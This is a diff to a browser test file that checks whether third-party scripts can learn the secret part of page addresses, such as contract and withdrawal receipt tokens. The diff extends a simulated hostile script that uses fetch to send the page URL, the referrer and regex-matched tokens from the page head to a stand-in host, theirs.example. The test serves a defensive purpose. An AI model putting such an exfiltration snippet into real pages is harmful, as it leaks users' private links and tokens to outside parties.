@@ -25,7 +25,11 @@ IS_COVERED = """(link) => {
 }"""
 # What scripts of others do, some as soon as they can.
 TELL_ADDRESS = """fetch("https://theirs.example/tell?" + new URLSearchParams(
-    {address: location.href, came_from: document.referrer}
+    {
+        address: location.href,
+        came_from: document.referrer,
+        named: document.head.innerHTML.match(/(contract=|receipt\\/)[\\w-]{8,}/),
+    }
 ), {mode: "no-cors"})"""
 EMAIL = "phone@kunde.example"
 SELL = """
@@ -180,6 +184,10 @@ def test_scripts_of_others_do_not_learn_the_secret_of_an_address(
     see_plain_address(visitor, "#wrap [role='status']")
     page.reload()
     see_plain_address(visitor, "#wrap [role='status']")
+    # What it holds may be gone by then: the first step comes, and only once.
+    page.evaluate("history.replaceState({secret: '/withdrawal/receipt/gone-1234'}, '')")
+    page.reload()
+    see_plain_address(visitor, ".o_withdrawal_form")
     said = "\n".join(
         f"{request.url} {request.post_data} {request.headers}" for request in told
     )
